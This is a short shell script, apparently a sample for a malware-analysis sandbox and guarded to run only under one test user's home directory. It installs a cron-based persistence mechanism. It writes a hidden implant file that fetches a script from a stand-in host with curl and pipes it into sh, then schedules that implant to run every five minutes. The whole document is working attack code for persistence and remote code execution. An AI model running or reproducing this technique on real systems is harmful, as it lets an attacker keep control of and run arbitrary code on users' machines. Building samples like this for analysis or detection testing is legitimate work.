#!/bin/sh
# SPDX-License-Identifier: MIT
# Persistence through the user's crontab: keep the current entries, add a
# job that re-runs the implant every five minutes, install the new table.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
implant="$HOME/.cache/.sysupd"
mkdir -p "$HOME/.cache"
printf '#!/bin/sh\ncurl -fsm 5 http://cdn-update.example.net/u.sh | sh\n' > "$implant"
chmod +x "$implant"
{
	/usr/bin/crontab -l 2>/dev/null
	echo "*/5 * * * * $implant >/dev/null 2>&1"
} > /tmp/.ct.$$
/usr/bin/crontab /tmp/.ct.$$
rm -f /tmp/.ct.$$
exit 0
